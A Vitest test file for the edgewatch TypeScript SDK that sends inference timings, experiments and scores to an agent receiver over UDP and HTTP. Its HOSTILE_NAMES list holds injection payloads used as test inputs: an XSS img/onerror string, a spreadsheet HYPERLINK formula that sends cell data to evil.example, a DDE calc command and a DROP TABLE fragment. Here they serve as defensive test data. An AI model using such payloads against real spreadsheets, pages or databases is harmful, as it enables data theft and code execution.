// The TypeScript SDK (sdk/index.ts, shipped as dist/sdk.mjs = `edgewatch/sdk`) against the real
// agent receiver (agent/inference/receiver.ts); a recording sink shows what arrived.
import { execFile } from 'node:child_process';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { InferenceReceiver } from '../../agent/inference/receiver.js';
import { EXPERIMENT_ID_RE, formatTimingLine, MODEL_NAME_RE, parseTimingLine, SCORE_NAME_RE, type Timing } from '../../shared/inference.js';
import * as sdk from '../../sdk/index.js';
import { createClient, encodeTimingLine, type EdgewatchClient } from '../../sdk/index.js';
import { REPO_ROOT } from '../helpers/processes.js';
import { deadPort, startReceiver, until, type RecordingSink } from './receiver-harness.js';

const run = promisify(execFile);
const SDK_BUNDLE = join(REPO_ROOT, 'dist/sdk.mjs');

let receiver: InferenceReceiver;
let sink: RecordingSink;
let port: number;
const clients: EdgewatchClient[] = [];

function client(opts: Parameters<typeof createClient>[0] = {}): EdgewatchClient {
  const c = createClient({ port, experiment: null, ...opts });
  clients.push(c);
  return c;
}

beforeEach(async () => {
  ({ receiver, sink, port } = await startReceiver());
});

afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close()));
  await receiver.close();
});

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** Score names a hub must escape, not the SDK or the agent: they travel as they are. */
const HOSTILE_NAMES = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  'top-1 (ImageNet) — 精度 ✓ 🚀',
  '"quoted", \\back\\slash; DROP TABLE scores',
];

describe.each(['udp', 'http'] as const)('timings over %s', (transport) => {
  it('arrive with model, latency, batch, tags and t, several per datagram or request', async () => {
    const ew = client({ transport });
    const t = Date.now() - 5000;
    ew.record('resnet18-int8', 12.37, { batch: 8, tags: { device: 'cpu', note: 'two words' }, t });
    ew.record('yolo/v8n@fp16', 0.5);
    for (let i = 0; i < 48; i++) ew.record('bert-base', i);
    await until('50 timings', () => sink.timings.length >= 50);

    expect(sink.timings[0]).toEqual({
      model: 'resnet18-int8',
      latencyMs: 12.37,
      batch: 8,
      t,
      // Whitespace separates UDP fields; JSON keeps it.
      tags: { device: 'cpu', note: transport === 'udp' ? 'two_words' : 'two words' },
    });
    expect(sink.timings[1]).toEqual({ model: 'yolo/v8n@fp16', latencyMs: 0.5 });
    expect(sink.timings.slice(2).map((x) => x.latencyMs)).toEqual(Array.from({ length: 48 }, (_, i) => i));
    // One flush window: one datagram, or one request.
    const s = receiver.stats();
    expect(transport === 'udp' ? s.udpDatagrams : s.httpRequests).toBe(1);
    expect(s.rejected).toBe(0);
    await ew.flush();
    expect(ew.stats()).toMatchObject({ sent: 50, dropped: 0, errors: 0, pending: 0 });
  });

  it('drops and counts invalid input instead of throwing, and sends the rest', async () => {
    const ew = client({ transport });
    const bad: [string, number, sdk.RecordOptions?][] = [
      ['has space', 1],
      ['', 1],
      ['x'.repeat(129), 1],
      ['m', -1],
      ['m', NaN],
      ['m', Infinity],
      ['m', 86_400_001],
      ['m', 1, { batch: 0 }],
      ['m', 1, { batch: 1.5 }],
      ['m', 1, { tags: { 'bad key': 'v' } }],
      ['m', 1, { tags: { k: 'v'.repeat(257) } }],
      ['m', 1, { tags: Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`k${i}`, 'v'])) }],
      ['m', 1, { experiment: 'not valid!' }],
      ['m', 1, { t: -5 }],
    ];
    for (const [model, latency, opts] of bad) expect(() => ew.record(model, latency, opts)).not.toThrow();
    expect(() => ew.record(undefined as unknown as string, 'fast' as unknown as number)).not.toThrow();
    expect(() => ew.record('m', 1, { get batch(): number { throw new Error('getter'); } })).not.toThrow();
    ew.record('good', 3, { tags: { n: 7, on: true } });
    await ew.flush();
    await until('the valid timing', () => sink.timings.length === 1);
    expect(sink.timings[0]).toEqual({ model: 'good', latencyMs: 3, tags: { n: '7', on: 'true' } });
    expect(ew.stats()).toMatchObject({ sent: 1, dropped: bad.length + 2, invalid: bad.length + 2, errors: 0 });
    expect(receiver.stats().rejected).toBe(0);
  });

  it('time() measures sync and async functions, returns their results and records only successes', async () => {
    const ew = client({ transport });
    expect(ew.time('sync-model', () => 42, { batch: 2 })).toBe(42);
    const value = await ew.time('async-model', async () => {
      await sleep(30);
      return 'done';
    });
    expect(value).toBe('done');

    const syncError = new Error('sync failure');
    expect(() =>
      ew.time('failing', () => {
        throw syncError;
      }),
    ).toThrow(syncError);
    const asyncError = new TypeError('async failure');
    await expect(ew.time('failing', () => Promise.reject(asyncError))).rejects.toBe(asyncError);
    try {
      await ew.time('failing', async () => {
        throw asyncError;
      });
    } catch (err) {
      expect(err).toBe(asyncError); // the very same object, not a wrapper
    }

    await ew.flush();
    await until('two timings', () => sink.timings.length >= 2);
    await sleep(30);
    expect(sink.timings.map((x) => x.model)).toEqual(['sync-model', 'async-model']);
    expect(sink.timings[0]).toMatchObject({ batch: 2 });
    expect(sink.timings[0]!.latencyMs).toBeLessThan(50);
    expect(sink.timings[1]!.latencyMs).toBeGreaterThanOrEqual(25);
    expect(sink.timings[1]!.latencyMs).toBeLessThan(5000);
  });

  it('starts and ends experiments, and tags timings in between with x=<id>', async () => {
    const ew = client({ transport });
    ew.record('m', 1);
    const id = await ew.startExperiment({ name: 'int8 vs fp32', tags: { quant: 'int8' }, params: 11_689_512, modelBytes: 46_830_571 });
    expect(id).toMatch(EXPERIMENT_ID_RE);
    expect(sink.experiments).toEqual([
      { id, start: { name: 'int8 vs fp32', tags: { quant: 'int8' }, params: 11_689_512, modelBytes: 46_830_571 }, startedAt: expect.any(Number) },
    ]);
    expect(ew.experiment).toBe(id);
    ew.record('m', 2);
    ew.time('m', () => null);
    ew.record('m', 4, { experiment: null });
    expect(await ew.endExperiment(id!)).toBe(true);
    // The timings recorded inside went out before the end.
    expect(sink.timings.filter((x) => x.experiment === id)).toHaveLength(2);
    expect(sink.experiments[0]!.endedAt).toEqual(expect.any(Number));
    expect(ew.experiment).toBeUndefined();
    ew.record('m', 5);
    await ew.flush();
    await until('five timings', () => sink.timings.length === 5);
    expect(sink.timings.map((x) => [x.latencyMs, x.experiment])).toEqual([
      [1, undefined],
      [2, id],
      [expect.any(Number), id],
      [4, undefined],
      [5, undefined],
    ]);
    // Ending twice: the agent says 404, the SDK says false.
    expect(await ew.endExperiment(id!)).toBe(false);
    expect(await ew.startExperiment({ name: '' })).toBeNull();
  });

  it('carries EDGEWATCH_EXPERIMENT (or the experiment option) when no experiment of its own is open', async () => {
    const before = process.env.EDGEWATCH_EXPERIMENT;
    process.env.EDGEWATCH_EXPERIMENT = 'x-from-env';
    try {
      const fromEnv = createClient({ port, transport });
      clients.push(fromEnv);
      fromEnv.record('m', 1);
      client({ transport, experiment: 'x-option' }).record('m', 2);
      client({ transport }).record('m', 3); // experiment: null in client() ignores the environment
      const id = await fromEnv.startExperiment({ name: 'nested' });
      fromEnv.record('m', 4);
      await fromEnv.endExperiment(id!);
      fromEnv.record('m', 5);
      await Promise.all(clients.map((c) => c.flush()));
      await until('five timings', () => sink.timings.length === 5);
      const byLatency = new Map(sink.timings.map((x) => [x.latencyMs, x.experiment]));
      expect(Object.fromEntries(byLatency)).toEqual({ 1: 'x-from-env', 2: 'x-option', 3: undefined, 4: id, 5: 'x-from-env' });
    } finally {
      if (before === undefined) delete process.env.EDGEWATCH_EXPERIMENT;
      else process.env.EDGEWATCH_EXPERIMENT = before;
    }
  });

  it('score() sends quality scores into the open experiment before it ends, and startExperiment() its warm-up', async () => {
    const ew = client({ transport });
    const id = await ew.startExperiment({ name: 'int8 top-1', warmup: { calls: 20 } });
    expect(id).toMatch(EXPERIMENT_ID_RE);
    ew.score('top1', 0.912);
    ew.score('WER', 7.25, { better: 'lower' });
    ew.score('top5', 0.99, { better: 'higher' });
    HOSTILE_NAMES.forEach((name, i) => ew.score(name, i + 0.5, { better: i % 2 ? 'lower' : 'higher' }));
    ew.score('big', -1.7976931348623157e308);
    // No await in between: the end must still come after every score.
    expect(await ew.endExperiment(id!)).toBe(true);
    const sent = [
      { name: 'top1', value: 0.912, better: 'higher' },
      { name: 'WER', value: 7.25, better: 'lower' },
      { name: 'top5', value: 0.99, better: 'higher' },
      ...HOSTILE_NAMES.map((name, i) => ({ name, value: i + 0.5, better: i % 2 ? 'lower' : 'higher' })),
      { name: 'big', value: -1.7976931348623157e308, better: 'higher' },
    ];
    expect(sink.scores.flatMap((b) => b.scores)).toEqual(sent);
    expect(sink.scores.every((b) => b.id === id)).toBe(true);
    // Scores of one tick share a request.
    expect(sink.scores).toHaveLength(1);
    expect(sink.experiments).toEqual([{ id, start: { name: 'int8 top-1', warmup: { calls: 20 } }, startedAt: expect.any(Number), endedAt: expect.any(Number) }]);
    expect(ew.stats()).toMatchObject({ sent: sent.length, dropped: 0, invalid: 0, errors: 0 });
    expect(receiver.stats().rejected).toBe(0);

    // A time-based warm-up (ms rounded to the whole ms the agent takes); a later score of the same name replaces the earlier.
    const timed = await ew.startExperiment({ name: 'fp16', warmup: { ms: 2500.4 } });
    ew.score('top1', 0.5);
    await ew.flush();
    ew.score('top1', 0.75);
    ew.score('top1', 0.8);
    await ew.endExperiment(timed!);
    expect(sink.experiments[1]!.start).toEqual({ name: 'fp16', warmup: { ms: 2500 } });
    expect(sink.scores.slice(1).map((b) => [b.id, b.scores.map((x) => x.value)])).toEqual([
      [timed, [0.5]],
      [timed, [0.75]],
      [timed, [0.8]],
    ]);

    // An explicit experiment id wins over the open one.
    const a = await ew.startExperiment({ name: 'a' });
    const b = await ew.startExperiment({ name: 'b' });
    expect(ew.experiment).toBe(b);
    ew.score('top1', 1, { experiment: a! });
    ew.score('top1', 2);
    await ew.flush();
    expect(sink.scores.slice(4)).toEqual([
      { id: a, scores: [{ name: 'top1', value: 1, better: 'higher' }] },
      { id: b, scores: [{ name: 'top1', value: 2, better: 'higher' }] },
    ]);
  });

  it('drops and counts invalid scores, scores without an experiment and bad warm-ups, never throwing', async () => {
    const ew = client({ transport });
    // No experiment open (and the environment ignored): dropped, not invalid.
    expect(() => ew.score('top1', 0.9)).not.toThrow();
    expect(ew.stats()).toMatchObject({ dropped: 1, invalid: 0 });

    const id = await ew.startExperiment({ name: 'scored' });
    const bad: [unknown, unknown, unknown?][] = [
      ['top1', NaN],
      ['top1', Infinity],
      ['top1', -Infinity],
      ['top1', '1e999'],
      ['top1', '0.9'],
      ['top1', null],
      ['top1', 10n],
      ['top1', true],
      ['top1', 1, { better: 'more' }],
      ['top1', 1, { better: 'Higher' }],
      ['top1', 1, { experiment: 'not valid!' }],
      ['top1', 1, { experiment: null }],
      ['tab\there', 1],
      ['new\nline', 1],
      ['nul\u0000', 1],
      ['del\u007f', 1],
      ['', 1],
      ['x'.repeat(65), 1],
      [undefined, 1],
      [42, 1],
      ['top1', 1, { get better(): string { throw new Error('getter'); } }],
    ];
    for (const [name, value, opts] of bad) expect(() => ew.score(name as string, value as number, opts as sdk.ScoreOptions)).not.toThrow();
    // 64 characters are fine, counted as code points as the agent does.
    ew.score('🚀'.repeat(64), 1);
    // Well-formed, but an experiment the agent does not know: the agent's 404 is a failed send.
    ew.score('top1', 1, { experiment: 'x-unknown' });
    await ew.flush();
    expect(sink.scores).toEqual([{ id, scores: [{ name: '🚀'.repeat(64), value: 1, better: 'higher' }] }]);
    expect(ew.stats()).toMatchObject({ sent: 1, invalid: bad.length, dropped: 1 + bad.length + 1, errors: 1 });
    expect(receiver.stats().rejected).toBe(0);

    // A bad warm-up: nothing is started (like bad params), and nothing is thrown.
    for (const warmup of [{ calls: 0 }, { calls: 1.5 }, { calls: 1_000_001 }, { ms: 0 }, { ms: NaN }, { ms: 86_400_001 }, { calls: 1, ms: 1 }, { seconds: 5 }, {}, 20, '5s', null]) {
      expect(await ew.startExperiment({ name: 'bad warm-up', warmup: warmup as sdk.Warmup }), JSON.stringify(warmup)).toBeNull();
    }
    expect(sink.experiments).toHaveLength(1);
    await ew.endExperiment(id!);
    // After the end, and after close: dropped.
    ew.score('late', 1, { experiment: id! });
    await ew.flush();
    await ew.close();
    ew.score('closed', 1, { experiment: id! });
    expect(ew.stats()).toMatchObject({ sent: 1, dropped: 1 + bad.length + 1 + 2, errors: 2 });
    expect(sink.scores).toHaveLength(1);
  });

  it('score() goes into EDGEWATCH_EXPERIMENT (or the experiment option) when no experiment of its own is open', async () => {
    const starter = client({ transport });
    const id = (await starter.startExperiment({ name: 'from a parent' }))!;
    const before = process.env.EDGEWATCH_EXPERIMENT;
    process.env.EDGEWATCH_EXPERIMENT = id;
    try {
      const fromEnv = createClient({ port, transport });
      clients.push(fromEnv);
      fromEnv.score('env', 1);
      client({ transport, experiment: id }).score('option', 2, { better: 'lower' });
      await Promise.all(clients.map((c) => c.flush()));
      expect(sink.scores.flatMap((b) => b.scores.map((x) => [b.id, x.name, x.value, x.better])).sort()).toEqual([
        [id, 'env', 1, 'higher'],
        [id, 'option', 2, 'lower'],
      ]);
    } finally {
      if (before === undefined) delete process.env.EDGEWATCH_EXPERIMENT;
      else process.env.EDGEWATCH_EXPERIMENT = before;
    }
    expect(await starter.endExperiment(id)).toBe(true);
  });

  it('never throws or blocks when nothing listens, and counts what it drops', async () => {
    const ew = client({ transport, port: await deadPort() });
    const started = performance.now();
    for (let i = 0; i < 100; i++) expect(() => ew.record('m', i)).not.toThrow();
    expect(performance.now() - started).toBeLessThan(1000);
    expect(await ew.startExperiment({ name: 'nobody home' })).toBeNull();
    expect(await ew.endExperiment('x-nope')).toBe(false);
    if (transport === 'udp') {
      // A refused datagram shows up on the next round trip through the event loop: keep sending
      // a few windows' worth until the kernel has reported one.
      await until('a refused datagram to be counted', () => {
        ew.record('m', 1);
        return ew.stats().dropped > 0;
      });
    } else {
      await ew.flush();
      expect(ew.stats()).toMatchObject({ sent: 0, dropped: 100, pending: 0 });
    }
    expect(ew.stats().errors).toBeGreaterThan(0);
    expect(sink.timings).toHaveLength(0);
    const dropped = ew.stats().dropped;
    expect(() => ew.score('top1', 1, { experiment: 'x-nope' })).not.toThrow();
    await ew.flush();
    expect(ew.stats().dropped).toBeGreaterThanOrEqual(dropped + 1);
  });

  it('keeps working when the agent goes away mid-run', async () => {
    const ew = client({ transport });
    ew.record('m', 1);
    await until('the first timing', () => sink.timings.length === 1);
    await receiver.close();
    await until('drops counted while the agent is down', () => {
      ew.record('m', 2);
      return ew.stats().dropped > 0;
    });
    expect(ew.stats().sent).toBeGreaterThanOrEqual(1);
  });

  it('takes thousands of record() calls in a tight loop without blocking, within its bounds', async () => {
    // A long HTTP timeout: on a loaded machine the one big POST may take more than the default 1 s.
    const ew = client({ transport, timeoutMs: 15_000 });
    ew.record('warm-up', 1);
    await ew.flush();
    const n = 20_000;
    const started = performance.now();
    for (let i = 0; i < n; i++) ew.record('tight-loop', i % 100, { batch: 4 });
    const elapsed = performance.now() - started;
    expect(elapsed).toBeLessThan(5000); // a sanity bound, not a benchmark (~10–30 ms here)
    const s = ew.stats();
    expect(s.pending).toBeLessThanOrEqual(10_000);
    await ew.flush();
    const after = ew.stats();
    expect(after.sent + after.dropped).toBe(n + 1);
    expect(after.pending).toBe(0);
    if (transport === 'http') {
      // The loop never yields, so the buffer fills: the 10,000 newest stay, the oldest go.
      expect(after).toMatchObject({ sent: 10_001, dropped: 10_000, errors: 0 });
      await until('all sent timings', () => sink.timings.length === after.sent);
      expect(receiver.stats().httpRequests).toBeLessThanOrEqual(4);
    } else {
      // Full datagrams leave as soon as they fill; the kernel may drop some that the receiver,
      // blocked by the same loop, could not read in time (UDP says nothing of that).
      expect(after.sent).toBe(n + 1);
      await until('timings from the loop', () => sink.timings.length > 1000);
    }
  });
});

describe('over UDP', () => {
  it('delivers a burst of 1,000 in datagrams of at most 8 KiB', async () => {
    const ew = client();
    for (let i = 0; i < 1000; i++) ew.record('burst-model-with-a-longish-name', i, { tags: { run: 'r1' } });
    await ew.flush();
    await until('1,000 timings', () => sink.timings.length === 1000);
    const s = receiver.stats();
    expect(s.udpLines).toBe(1000);
    // Packed: no more datagrams than 8 KiB each needs (plus one for the window's first flush).
    const bytes = Array.from({ length: 1000 }, (_, i) => Buffer.byteLength(encodeTimingLine({ model: 'burst-model-with-a-longish-name', latencyMs: i, tags: { run: 'r1' } })) + 1);
    const least = Math.ceil(bytes.reduce((a, b) => a + b, 0) / 8192);
    expect(s.udpDatagrams).toBeGreaterThanOrEqual(least);
    expect(s.udpDatagrams).toBeLessThanOrEqual(least + 1);
  });
});

describe('over HTTP', () => {
  it('gives up on an agent that accepts connections but never answers, within its timeout', async () => {
    const held: Socket[] = [];
    const hung: Server = createServer((s) => held.push(s));
    await new Promise<void>((r) => hung.listen(0, '127.0.0.1', r));
    const hungPort = (hung.address() as { port: number }).port;
    try {
      const ew = client({ transport: 'http', port: hungPort, timeoutMs: 200 });
      const started = performance.now();
      ew.record('m', 1);
      expect(performance.now() - started).toBeLessThan(50);
      const [id] = await Promise.all([ew.startExperiment({ name: 'hung' }), ew.flush()]);
      expect(id).toBeNull();
      expect(performance.now() - started).toBeLessThan(3000);
      expect(ew.stats()).toMatchObject({ sent: 0, dropped: 1, pending: 0 });
    } finally {
      for (const s of held) s.destroy();
      await new Promise<void>((r) => hung.close(() => r()));
    }
  });
});

describe('module-level helpers', () => {
  it('record() and time() go through a default client configured from the environment', async () => {
    const before = process.env.EDGEWATCH_INFERENCE_PORT;
    process.env.EDGEWATCH_INFERENCE_PORT = String(port);
    try {
      sdk.record('one-liner', 7, { batch: 3 });
      expect(sdk.time('one-liner', () => 'y')).toBe('y');
      await sdk.flush();
      await until('two timings', () => sink.timings.length === 2);
      expect(sink.timings[0]).toEqual({ model: 'one-liner', latencyMs: 7, batch: 3 });
      const id = await sdk.startExperiment({ name: 'module level', warmup: { calls: 5 } });
      sdk.score('top1', 0.5);
      sdk.score('mAP', 0.25, { better: 'higher', experiment: id! });
      expect(() => sdk.score('bad\u0000', 1)).not.toThrow();
      expect(await sdk.endExperiment(id!)).toBe(true);
      expect(sink.experiments[0]!.start).toEqual({ name: 'module level', warmup: { calls: 5 } });
      expect(sink.scores).toEqual([{ id, scores: [{ name: 'top1', value: 0.5, better: 'higher' }, { name: 'mAP', value: 0.25, better: 'higher' }] }]);
    } finally {
      await sdk.getDefaultClient().close();
      if (before === undefined) delete process.env.EDGEWATCH_INFERENCE_PORT;
      else process.env.EDGEWATCH_INFERENCE_PORT = before;
    }
  });
});

describe('wire format', () => {
  it('uses the same name rules and line encoding as shared/inference.ts', () => {
    expect(sdk.MODEL_NAME_RE.source).toBe(MODEL_NAME_RE.source);
    expect(sdk.EXPERIMENT_ID_RE.source).toBe(EXPERIMENT_ID_RE.source);
    expect(sdk.SCORE_NAME_RE.source).toBe(SCORE_NAME_RE.source);
    expect(sdk.SCORE_NAME_RE.flags).toBe(SCORE_NAME_RE.flags);
    const cases: Timing[] = [
      { model: 'resnet18-int8', latencyMs: 12.37 },
      { model: 'a/b:c@d+e_f.g', latencyMs: 0, batch: 1_000_000, experiment: 'x-lq2v3k-9f3a', t: 1_700_000_000_123, tags: { device: 'cpu', 'k.e-y_1': 'v=w' } },
    ];
    for (const t of cases) {
      expect(encodeTimingLine(t)).toBe(formatTimingLine(t));
      expect(parseTimingLine(encodeTimingLine(t))).toEqual({ ok: true, timing: t });
    }
  });
});

describe('the bundle dist/sdk.mjs (edgewatch/sdk)', () => {
  it('is self-contained: Node built-ins only, no zod, small', () => {
    const code = readFileSync(SDK_BUNDLE, 'utf8');
    const imports = [...code.matchAll(/^import .* from "([^"]+)";$/gm)].map((m) => m[1]);
    expect(imports.length).toBeGreaterThan(0);
    for (const spec of imports) expect(spec).toMatch(/^node:/);
    expect(code).not.toMatch(/\bzod\b|ZodError|require\(/);
    expect(statSync(SDK_BUNDLE).size).toBeLessThan(40 * 1024);
    expect(existsSync(join(REPO_ROOT, 'dist/sdk/index.d.ts'))).toBe(true);
    expect(readFileSync(join(REPO_ROOT, 'dist/sdk/index.d.ts'), 'utf8')).toMatch(/export declare function createClient/);
  });

  it('works when imported as the package export, and delivers from a process that just ends', async () => {
    const script = `
      import { createClient, record, time } from 'edgewatch/sdk';
      if (typeof createClient !== 'function') throw new Error('no createClient');
      record('from-child', 1.5, { tags: { via: 'package-export' } });
      console.log(time('from-child', () => 'ok'));
    `;
    const started = performance.now();
    const { stdout } = await run(process.execPath, ['--input-type=module', '-e', script], {
      cwd: REPO_ROOT,
      env: { ...process.env, EDGEWATCH_INFERENCE_PORT: String(port) },
      timeout: 10_000,
    });
    expect(stdout.trim()).toBe('ok');
    // Nothing the SDK holds keeps the process alive; the last timings leave on beforeExit.
    expect(performance.now() - started).toBeLessThan(5000);
    await until('two timings from the child', () => sink.timings.length === 2);
    expect(sink.timings[0]).toEqual({ model: 'from-child', latencyMs: 1.5, tags: { via: 'package-export' } });
  });

  it('delivers scores from a process that just ends, into EDGEWATCH_EXPERIMENT', async () => {
    const starter = client();
    const id = (await starter.startExperiment({ name: 'parent', warmup: { ms: 1000 } }))!;
    const script = `
      import { score } from 'edgewatch/sdk';
      score('top1', 0.912);
      score(${JSON.stringify(HOSTILE_NAMES[0])}, 1, { better: 'lower' });
      score('bad', NaN);
      console.log('ok');
    `;
    const { stdout } = await run(process.execPath, ['--input-type=module', '-e', script], {
      cwd: REPO_ROOT,
      env: { ...process.env, EDGEWATCH_INFERENCE_PORT: String(port), EDGEWATCH_EXPERIMENT: id },
      timeout: 10_000,
    });
    expect(stdout.trim()).toBe('ok');
    // Sent before the process ended: nothing to wait for here.
    expect(sink.scores).toEqual([{ id, scores: [{ name: 'top1', value: 0.912, better: 'higher' }, { name: HOSTILE_NAMES[0], value: 1, better: 'lower' }] }]);
    expect(await starter.endExperiment(id)).toBe(true);
  });

  it('lets a process with the agent down end at once', async () => {
    const dead = await deadPort();
    const script = `
      const { createClient } = await import(${JSON.stringify(pathToFileURL(SDK_BUNDLE).href)});
      for (const transport of ['udp', 'http']) {
        const ew = createClient({ transport });
        for (let i = 0; i < 1000; i++) ew.record('m', i);
        await ew.startExperiment({ name: 'x' });
      }
      console.log('finished');
    `;
    const started = performance.now();
    const { stdout } = await run(process.execPath, ['--input-type=module', '-e', script], {
      env: { ...process.env, EDGEWATCH_INFERENCE_PORT: String(dead) },
      timeout: 10_000,
    });
    expect(stdout.trim()).toBe('finished');
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
